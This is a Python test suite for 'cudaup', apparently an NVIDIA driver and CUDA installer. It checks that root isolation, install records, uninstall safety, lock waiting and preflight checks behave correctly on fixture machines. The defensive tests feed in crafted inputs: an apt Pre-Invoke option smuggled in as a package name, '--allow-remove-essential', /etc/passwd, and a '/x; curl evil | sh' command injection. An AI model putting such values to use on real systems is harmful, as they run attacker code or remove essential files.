#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The driver's system steps and what cudaup keeps of them (issue 32 classes 1, 7, 9, 10; issue 33 items 1
and 2), against tests/fakes/syscmd-standin and fixture machines:

- --root DIR never reaches this host: without stand-ins, commands run inside DIR or are refused before
  anything is touched; verify under DIR does not run this host's driver libraries against DIR's driver.
- STATE/driver.json holds what each step newly installed (dependencies included, nothing that was there
  before), written after the step; it is input: options for apt, files outside cudaup's, another user's
  folder, file or link, an older cudaup's list are refused before anything runs; uninstall removes exactly
  the recorded set, refuses when the removal would take another package, and removes nothing after an
  install that failed at its first step.
- The package manager: a held dpkg lock is waited for and said, DEBIAN_FRONTEND=noninteractive, its
  output streamed to the screen and the log, its failures advised as the package manager's.
- Every URL is checked before the first system change; repair with one install repairs its files while a
  driver warning stands; doctor's driver fixes are commands cudaup carries out."""
import json
import os
import shutil
import stat
import subprocess
import sys

from cutest import BIN, SRCDIR, Tap, base_env, gpu_doubles, run

sys.path.insert(0, os.path.join(SRCDIR, "tests", "fixtures"))
import machines  # noqa: E402
import mkmirror  # noqa: E402

t = Tap()
STANDIN = os.path.join(SRCDIR, "tests", "fakes", "syscmd-standin")
COMMANDS = ["apt-get", "apt-mark", "dpkg-query", "dnf", "rpm", "zypper", "pacman", "mokutil", "dkms", "update-initramfs",
            "dracut", "mkinitcpio", "modprobe", "dpkg"]
MIRROR = os.path.join(t.tmpdir("mirror"), "m")
mkmirror.build(MIRROR, replace=gpu_doubles())
GTX970 = machines.MACHINES["u2404-gtx970-nouveau-sb"]
WORLD = {"nvidia-driver-580": ["nvidia-kernel-common-580", "libnvidia-compute-580", "linux-headers-generic"],
         "nvidia-kernel-common-580": [], "libnvidia-compute-580": [], "linux-headers-generic": [],
         "linux-modules-nvidia-580-generic": ["linux-modules-nvidia-580-6.8.0-45-generic"],
         "linux-modules-nvidia-580-6.8.0-45-generic": [], "user-tool": ["libnvidia-compute-580"]}
AS_ROOT = os.geteuid() == 0


def bindir(tag):
    d = os.path.join(t.tmpdir(tag), "bin")
    os.makedirs(d)
    for c in COMMANDS:
        os.symlink(STANDIN, os.path.join(d, c))
    return d


class Box:
    """A fixture machine, stand-ins for its system commands (or none), its own state, prefix and cache."""

    def __init__(self, tag, spec, standins=True, world=WORLD):
        self.dir = t.tmpdir(tag)
        self.root = os.path.join(self.dir, "root")
        self.spec = spec
        machines.build_spec(spec, self.root)
        if spec.get("os", "").startswith("ubuntu"):
            # the archive a real Ubuntu has (the plan adds the driver's components to it, or refuses without one)
            os.makedirs(os.path.join(self.root, "etc/apt"), exist_ok=True)
            with open(os.path.join(self.root, "etc/apt/sources.list"), "w") as f:
                f.write("deb http://archive.ubuntu.com/ubuntu noble main restricted universe multiverse\n")
        self.bin = bindir(tag + "-bin")
        self.log = os.path.join(self.dir, "calls.jsonl")
        self.state = os.path.join(self.dir, "state")
        self.prefix = os.path.join(self.dir, "prefix")
        self.standins = standins
        self.world = world

    def env(self, **extra):
        e = {"STANDIN_LOG": self.log, "STANDIN_ROOT": self.root, "STANDIN_WORLD": json.dumps(self.world) if self.world else "",
             "CUDAUP_DRIVER": "auto", "CUDAUP_TEST_NOW": "1800000000", "HOME": self.dir,
             "FAKE_NVIDIA_CONFIG": os.path.join(self.root, "fake-nvidia.conf")}
        if self.standins:
            e.update({"CUDAUP_SYSTEM_BIN": self.bin, "CUDAUP_SYSTEM_ROOT": self.root})
        else:
            # No stand-ins: the runner's own choice.  The "host's" package manager is a recording stand-in
            # on PATH, so that a call to it is seen (and changes nothing real).
            e.update({"CUDAUP_SYSTEM_BIN": "", "CUDAUP_SYSTEM_ROOT": "", "PATH": self.bin + ":/usr/bin:/bin",
                      "STANDIN_ROOT": os.path.join(self.dir, "host")})
        e.update(extra)
        return e

    def args(self, mirror=None):
        return ["--root", self.root, "--mirror", "file://" + (mirror or MIRROR), "--prefix", self.prefix,
                "--state-dir", self.state, "--cache-dir", os.path.join(self.dir, "cache"), "--framework", "none",
                "--env-scope", "none"]

    def install(self, *extra, mirror=None, json_out=True, **env):
        return run(["install", "--yes"] + (["--json"] if json_out else []) + self.args(mirror) + list(extra),
                   env=self.env(**env), timeout=300)

    def uninstall(self, **env):
        return run(["uninstall", "driver", "--yes", "--json", "--root", self.root, "--state-dir", self.state], env=self.env(**env))

    def calls(self):
        """What ran, apt's lock option and the package queries left out."""
        out = []
        for c in (json.loads(x) for x in open(self.log)) if os.path.exists(self.log) else []:
            if c[:2] == ["apt-get", "-o"]:
                c = c[:1] + c[3:]
            if c[0] not in ("dpkg-query", "rpm") and "-s" not in c:
                out.append(c)
        return out

    def envs(self):
        return [json.loads(x) for x in open(self.log + ".env")] if os.path.exists(self.log + ".env") else []

    def pkgs(self):
        st = os.path.join(self.root, "var/lib/dpkg/status")
        out = {}
        for para in open(st).read().split("\n\n") if os.path.exists(st) else []:
            d = dict(line.split(": ", 1) for line in para.splitlines() if ": " in line)
            if "Package" in d:
                out[d["Package"]] = d.get("Status", "")
        return out

    def record(self):
        p = os.path.join(self.state, "driver.json")
        return json.load(open(p)) if os.path.exists(p) else None

    def reset(self):
        for p in (self.log, self.log + ".env"):
            if os.path.exists(p):
                os.unlink(p)


# ---- issue 33 item 1: --root never reaches this host ----
b = Box("noroot-apt", GTX970, standins=False)
r = b.install()
d = r.json() or {}
t.ok(r.rc == 3 and b.root in (d.get("error") or "") and "nothing was changed" in (d.get("error") or ""),
     "install --root DIR without the means to run apt inside DIR: refused, naming DIR (exit 3)", r)
t.eq(b.calls(), [], "install --root DIR: this host's apt-get (on PATH) is never run", b.calls())
t.ok(not os.path.exists(os.path.join(b.root, "etc/modprobe.d/cudaup-blacklist-nouveau.conf")) and b.record() is None
     and not os.path.exists(os.path.join(b.state, "resume.json")), "refused before anything is touched: no file, no record", os.listdir(b.dir))
b = Box("noroot-dnf", machines.MACHINES["rocky9-h100"], standins=False)
r = b.install()
t.ok(r.rc == 3 and "dnf" in ((r.json() or {}).get("error") or "") and b.calls() == [],
     "install --root DIR on Rocky: dnf is not run inside a root yet, so refused; nothing run on this host" if AS_ROOT else
     "install --root DIR on Rocky, not root: refused; nothing run on this host", r)
if AS_ROOT and shutil.which("setpriv"):
    nb = Box("noroot-user", GTX970, standins=False)
    shutil.copytree(MIRROR, os.path.join(nb.dir, "m"))
    for p in (nb.dir, nb.root):
        os.chmod(p, 0o755)
    for dp, dn, fn in os.walk(nb.dir):
        for x in dn + fn:
            if not os.path.islink(os.path.join(dp, x)):
                os.chmod(os.path.join(dp, x), 0o755)
    for p in (nb.state, nb.prefix, os.path.join(nb.dir, "cache")):
        os.makedirs(p, exist_ok=True)
        os.chown(p, 65534, 65534)
    par = nb.dir
    while par != "/":
        os.chmod(par, os.stat(par).st_mode | 0o005)
        par = os.path.dirname(par)
    env = base_env(nb.env(HOME=nb.state))
    pr = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", BIN, "install", "--yes", "--json"] + nb.args(mirror=os.path.join(nb.dir, "m")),
                        env=env, capture_output=True, text=True, timeout=300)
    d = json.loads(pr.stdout) if pr.stdout.strip().startswith("{") else {}
    t.ok(pr.returncode == 3 and "root's privileges" in (d.get("error") or "") and nb.calls() == [],
         "install --root DIR as another user: chroot needs root, refused before anything; this host's apt-get not run", (pr.returncode, pr.stdout, pr.stderr))
else:
    t.skip("install --root DIR as another user: refused", "needs root and setpriv to run cudaup as another user")

# verify under another root: no libcuda.so.1 there, so no GPU work with this host's libraries.
vb = Box("verify-root", {"os": "ubuntu2404", "driver": "580.95.05", "cuda": 13000,
                         "gpus": [("0000:01:00.0", "2684", "0x030000", "nvidia", "8.9", 24564, "NVIDIA GeForce RTX 4090")],
                         "cuda_installs": [("/opt/v/cuda-12.6", "12.6.3", None)]})
r = run(["verify", "--json", "--root", vb.root, "--prefix", os.path.join(vb.root, "opt/v"), "12.6"], env=vb.env())
chk = {c["name"]: c for c in (r.json() or {}).get("checks", [])}
t.ok(all(chk.get(n, {}).get("status") == "skip" and "libcuda.so.1 of its own" in chk.get(n, {}).get("detail", "")
         for n in ("device", "gpu-kernel", "bandwidth")),
     "verify --root DIR without DIR's libcuda: the GPU checks skip with that reason (this host's are not run)", chk)

# ---- class 1 / issue 33 item 2: the record is what was installed, and it is input ----
spec = dict(GTX970, dpkg=[("linux-headers-generic", "install ok installed"), ("firmware-old", "install ok installed")])
b = Box("record", spec)
r = b.install()
rec = b.record() or {}
new = sorted(set(k for k, v in b.pkgs().items() if v.endswith(" installed")) - {"linux-headers-generic", "firmware-old"})
t.ok(r.rc == 5 and sorted(rec.get("packages", [])) == new and "libnvidia-compute-580" in new and "linux-headers-generic" not in rec.get("packages", []),
     "the record holds what the install newly installed, dependencies included, not the headers that were there", (rec, new))
PREFS = "/etc/apt/preferences.d/cudaup-nvidia-driver"
t.ok(rec.get("held") == [] and PREFS in rec.get("files", []) and os.path.exists(os.path.join(b.root, PREFS.lstrip("/"))),
     "the record holds the branch's pin it added (apt's preferences file), no apt-mark hold", rec)
t.ok(all(e.get("DEBIAN_FRONTEND") == "noninteractive" for e in b.envs() if e["argv"][0].startswith("apt")) and
     all("-o" in e["argv"] and any(a.startswith("DPkg::Lock::Timeout=") for a in e["argv"]) for e in b.envs() if e["argv"][0] == "apt-get"),
     "class 7: every apt call gets DEBIAN_FRONTEND=noninteractive, every apt-get a lock timeout", b.envs())
# A package the user installed since, which needs one of the driver's: the removal would take it; refused.
subprocess.run([os.path.join(b.bin, "apt-get"), "install", "-y", "user-tool"], env=dict(os.environ, **b.env()), check=True,
               capture_output=True)
b.reset()
r = b.uninstall()
t.ok(r.rc == 3 and "user-tool" in ((r.json() or {}).get("error") or "") and b.calls() == [] and "user-tool" in b.pkgs(),
     "uninstall: the removal would take user-tool, which cudaup did not install: refused by name, nothing run", (r, b.calls()))
subprocess.run([os.path.join(b.bin, "apt-get"), "purge", "-y", "user-tool"], env=dict(os.environ, **b.env()), check=True,
               capture_output=True)
b.reset()
r = b.uninstall()
names = [" ".join(c[:2]) for c in b.calls()]
purged = sorted(sum((c[3:] for c in b.calls() if c[:2] == ["apt-get", "purge"]), []))
t.ok(r.rc == 0 and names == ["apt-get purge", "update-initramfs -u"] and purged == new,
     "uninstall: purge exactly the recorded set (no autoremove), then the initramfs after the blacklist", (r, b.calls()))
said = ((r.json() or {}).get("removal") or {}).get("removes", [])
t.ok(any(all(p in x for p in new) for x in said) and any(PREFS in x for x in said)
     and any("cudaup-blacklist-nouveau.conf" in x for x in said) and any("update-initramfs" in x for x in said),
     "uninstall driver --json: removal names what it said it would undo (the packages, the pin's file, the blacklist, "
     "the initramfs)", said)
left = b.pkgs()
t.ok(set(left) == {"linux-headers-generic", "firmware-old"} and not os.path.exists(os.path.join(b.root, "etc/modprobe.d/cudaup-blacklist-nouveau.conf"))
     and not os.path.exists(os.path.join(b.root, PREFS.lstrip("/")))
     and b.record() is None, "after uninstall: what was there before stays, the blacklist, the pin and the record are gone", left)

# The first step fails: nothing was installed, so nothing is recorded and uninstall removes nothing.
b = Box("failfirst", spec)
r = b.install(STANDIN_FAIL="apt-get update")
b.reset()
r2 = b.uninstall()
t.ok(r.rc == 1 and b.record() is None and r2.rc == 3 and b.calls() == [] and "linux-headers-generic" in b.pkgs(),
     "an install that failed at its first step: no record, and uninstall removes nothing (exit 3)", (r, r2, b.calls()))
d = r.json() or {}
t.ok("package manager" in (d.get("advice") or "") and "pip" not in (d.get("advice") or ""),
     "class 7: a failed package step's advice speaks of the package manager, not of pip", d)


def record_case(tag, doc, why, want_rc, mutate=None, raw=None):
    box = Box(tag, GTX970)
    os.makedirs(box.state, mode=0o755)
    os.makedirs(os.path.join(box.root, "etc"), exist_ok=True)
    open(os.path.join(box.root, "etc/passwd"), "w").write("root:x:0:0::/root:/bin/sh\n")
    path = os.path.join(box.state, "driver.json")
    open(path, "w").write(raw if raw is not None else json.dumps(doc))
    if mutate:
        mutate(box, path)
    r = box.uninstall()
    t.ok(r.rc == want_rc and box.calls() == [] and os.path.exists(os.path.join(box.root, "etc/passwd")), why, (r, box.calls()))
    return r


# (With the keys an older cudaup read too, "pin" and "pin_packages", so that the old reader would act on it.)
GOOD = {"format": 2, "manager": "apt", "packages": ["nvidia-driver-580"], "held": ["nvidia-driver-580"], "files": [],
        "pin": "apt-mark hold", "pin_packages": ["nvidia-driver-580"]}
record_case("rec-option", dict(GOOD, packages=["-oDPkg::Pre-Invoke::=touch /tmp/cudaup-pwned", "nvidia-driver-580"]),
            "driver.json naming an apt option as a package: refused (exit 2), nothing run", 2)
record_case("rec-allow", dict(GOOD, packages=["--allow-remove-essential"]), "driver.json naming --allow-remove-essential: refused (exit 2)", 2)
record_case("rec-file", dict(GOOD, files=["/etc/passwd"], blacklist="/etc/passwd"),
            "driver.json naming /etc/passwd as cudaup's file: refused (exit 2); the file stays", 2)
record_case("rec-old", {"manager": "apt", "packages": ["nvidia-driver-580", "linux-headers-6.8.0-45-generic"], "pin": "apt-mark hold",
                        "pin_packages": ["nvidia-driver-580"]},
            "an older cudaup's driver.json (the plan's list): not acted on (exit 3)", 3)
record_case("rec-world", GOOD, "driver.json in a folder every user can write: refused (exit 1)", 1,
            mutate=lambda box, p: os.chmod(box.state, 0o777))
if AS_ROOT:
    record_case("rec-owner", GOOD, "driver.json another user wrote: refused (exit 1)", 1, mutate=lambda box, p: os.chown(p, 65534, 65534))

    def link(box, p):
        real = os.path.join(box.dir, "elsewhere.json")
        shutil.move(p, real)
        os.symlink(real, p)
        os.lchown(p, 65534, 65534)
    record_case("rec-link", GOOD, "driver.json that is another user's link: refused (exit 1)", 1, mutate=link)
else:
    t.skip("driver.json another user wrote: refused", "needs root to give a file to another user")
    t.skip("driver.json that is another user's link: refused", "needs root to give a link to another user")

# resume.json is input too: in a folder every user can write it is not acted on; a crafted one is refused.
b = Box("resume-world", GTX970)
os.makedirs(b.state)
open(os.path.join(b.state, "resume.json"), "w").write(json.dumps({"after": "driver", "branch": 580, "boot_id": "x"}))
os.chmod(b.state, 0o777)
r = b.install()
t.ok(r.rc == 1 and "every user" in ((r.json() or {}).get("error") or "") and b.calls() == [],
     "resume.json in a folder every user can write: refused before anything (exit 1)", r)
b = Box("resume-crafted", GTX970)
os.makedirs(b.state)
open(os.path.join(b.state, "resume.json"), "w").write(json.dumps({"after": "driver", "branch": 580, "secure_boot": "mok",
                                                                   "mok_cert": "/x; curl evil | sh", "boot_id": "y"}))
r = b.install()
t.ok(r.rc == 2 and b.calls() == [], "a resume.json whose key path is a shell command: refused (exit 2)", r)
# An empty or cut-short resume.json (issue 46 item 8): with no NVIDIA driver loaded, refused with what to do; with one
# loaded, there is nothing left to resume: it goes, said so, and the install goes on.
for what, text in (("empty", ""), ("cut short", '{"after": "driver", "bra')):
    b = Box("resume-damaged", GTX970)
    os.makedirs(b.state)
    open(os.path.join(b.state, "resume.json"), "w").write(text)
    r = b.install()
    d = r.json() or {}
    t.ok(r.rc == 2 and "resume.json" in (d.get("error") or "") and "cudaup doctor" in (d.get("advice") or "")
         and "rm " in (d.get("advice") or "") and b.calls() == [],
         "a resume.json %s, no NVIDIA driver loaded: refused (exit 2), saying what to do" % what, r)
LOADED = {"os": "ubuntu2404", "driver": "580.95.05", "cuda": 13000,
          "gpus": [("0000:01:00.0", "2684", "0x030000", "nvidia", "8.9", 24564, "NVIDIA GeForce RTX 4090")]}
b = Box("resume-damaged-loaded", LOADED)
os.makedirs(b.state)
open(os.path.join(b.state, "resume.json"), "w").write('{"after": "driver", "branch": 5')
r = b.install(json_out=False, CUDAUP_DRIVER="keep")
t.ok(r.rc in (0, 4) and not os.path.exists(os.path.join(b.state, "resume.json")) and "is not valid JSON" in r.err
     and "580.95.05 is loaded" in r.err, "a cut-short resume.json with the NVIDIA driver loaded: removed, said so, the install goes on", r)

# ---- class 7: a held dpkg lock is waited for, and said; the manager's output is streamed ----
b = Box("lock", GTX970)
lockf = os.path.join(b.root, "var/lib/dpkg/lock-frontend")
os.makedirs(os.path.dirname(lockf), exist_ok=True)
import fcntl  # noqa: E402
fd = os.open(lockf, os.O_RDWR | os.O_CREAT, 0o640)
fcntl.lockf(fd, fcntl.LOCK_EX)
logf = os.path.join(b.dir, "cudaup.log")
p = subprocess.Popen([BIN, "install", "--yes", "--log", logf] + b.args(), env=base_env(b.env()), stdout=subprocess.PIPE,
                     stderr=subprocess.PIPE, text=True)
seen, said = [], False
for line in p.stderr:
    seen.append(line)
    if "package manager is busy" in line:
        said = True
        break
fcntl.lockf(fd, fcntl.LOCK_UN)  # released once cudaup has said that it waits: no clock decides the verdict
os.close(fd)
out, rest = p.communicate(timeout=300)
seen.append(rest)
err_text = "".join(seen)
t.ok(said and p.returncode == 5, "class 7: another process holds dpkg's lock: cudaup says so and waits, then goes on (exit 5)", err_text[-2000:])
t.ok("\n    Setting up nvidia-driver-580 (1) ..." in err_text and "Setting up nvidia-driver-580" in open(logf).read(),
     "class 7: the package manager's output is streamed to the screen (indented) and to the log", err_text[-2000:])

# ---- class 9: every URL is checked before the first system change ----
M2 = os.path.join(t.tmpdir("mirror-gap"), "m")
shutil.copytree(MIRROR, M2)
gone = None
for dp, dn, fn in os.walk(M2):
    for f in fn:
        if f.endswith(".tar.xz") and "cuda_cudart" in f:
            gone = os.path.join(dp, f)
os.unlink(gone)
b = Box("preflight", GTX970)
r = b.install(mirror=M2)
t.ok(r.rc == 1 and "cuda_cudart" in ((r.json() or {}).get("error") or "") and b.calls() == [] and b.record() is None,
     "class 9: an archive the mirror lacks is found before the driver's packages: exit 1, no system change, no reboot asked", (r, b.calls()))

# ---- class 10: repair with one install, a driver warning standing; doctor's fixes are cudaup's commands ----
U1080 = [("0000:01:00.0", "1b80", "0x030000", "nvidia", "6.1", 8192, "NVIDIA GeForce GTX 1080")]
b = Box("repair", {"os": "ubuntu2404", "gpus": U1080, "driver": "580.95.05", "cuda": 13000, "libs": True,
                   "module_files": {"kernel/nvidia-580/nvidia.ko": True},
                   "dpkg": [("nvidia-driver-580", "install ok installed")]})
r = b.install("--driver", "keep")
lib = [os.path.join(dp, f) for dp, dn, fn in os.walk(os.path.join(b.prefix, "cuda-12.6")) for f in fn if f.startswith("libcudart.so.")]
os.unlink(lib[0])
os.unlink(os.path.join(b.prefix, "cuda"))  # no PREFIX/cuda link: the one install is still the one meant
b.reset()
r = run(["repair", "--yes", "--json", "--root", b.root, "--prefix", b.prefix, "--state-dir", b.state, "--cache-dir",
         os.path.join(b.dir, "cache"), "--mirror", "file://" + MIRROR], env=b.env())
d = r.json() or {}
t.ok(r.rc == 0 and os.path.exists(lib[0]) and "driver-unpinned" in d.get("driver_problems", [])
     and os.path.exists(os.path.join(b.root, PREFS.lstrip("/"))) and "again" not in r.out + r.err,
     "class 10: repair with one install and a driver warning: the branch held and the deleted library restored in one run", (r, b.calls()))

r = run(["doctor", "--json", "--root", machines.build("u2404-rtx5090-550", os.path.join(t.tmpdir("5090"), "root"))],
        env={"FAKE_NVIDIA_CONFIG": "/nonexistent"})
fixes = " ".join(p.get("fix", "") for p in (r.json() or {}).get("problems", []))
t.ok("--driver 550-open" not in fixes, "class 10: doctor never advises --driver 550-open for an RTX 5090 (cudaup refuses it)", fixes)
nm = Box("nomod", {"os": "ubuntu2404", "gpus": [g[:3] + (None,) + g[4:] for g in U1080], "lib_file": "580.95.05",
                   "dpkg": [("nvidia-driver-580", "install ok installed")]})
r = run(["doctor", "--json", "--root", nm.root], env=nm.env())
pr = {p["code"]: p for p in (r.json() or {}).get("problems", [])}
t.ok("driver-module-missing" in pr and not any("cudaup install" in p.get("fix", "") and "installs the NVIDIA driver" in p.get("fix", "")
                                               for p in pr.values()),
     "class 10: the driver installed but its module missing: no fix says to install a driver", pr)

# ---- class 8: the signer of a compressed module is read (decompressed), .ko.xz and .ko.zst alike ----
import lzma  # noqa: E402
SIG = b"~Module signature appended~\n"
for ext, signed in ((".xz", True), (".xz", False), (".zst", True), (".zst", False)):
    if ext == ".zst" and not shutil.which("zstd"):
        t.skip("compressed module %s: its signature read" % ext, "needs zstd (scripts/bootstrap --test installs it)")
        continue
    cb = Box("komp%s%d" % (ext[1:], signed), {"os": "debian12", "kernel": "6.1.0-26-amd64", "secure_boot": True,
                                              "gpus": [g[:3] + (None,) + g[4:] for g in U1080], "lib_file": "535.309.01",
                                              "dpkg": [("nvidia-driver", "install ok installed")]})
    body = b"\x7fELF compressed module " + b"x" * 200000 + (SIG if signed else b"")
    path = os.path.join(cb.root, "lib/modules/6.1.0-26-amd64/updates/dkms/nvidia-current.ko" + ext)
    os.makedirs(os.path.dirname(path))
    if ext == ".xz":
        open(path, "wb").write(lzma.compress(body, check=lzma.CHECK_CRC32))
    else:
        subprocess.run(["zstd", "-q", "-o", path], input=body, check=True)
    r = run(["doctor", "--json", "--root", cb.root], env=cb.env())
    dd = (r.json() or {}).get("driver") or {}
    t.eq((dd.get("module_for_running_kernel"), dd.get("module_signed")), (True, signed),
         "class 8: Debian's nvidia-current.ko%s, %s: found, and its signature read through the compression" % (ext, "signed" if signed else "unsigned"), dd)
t.done()
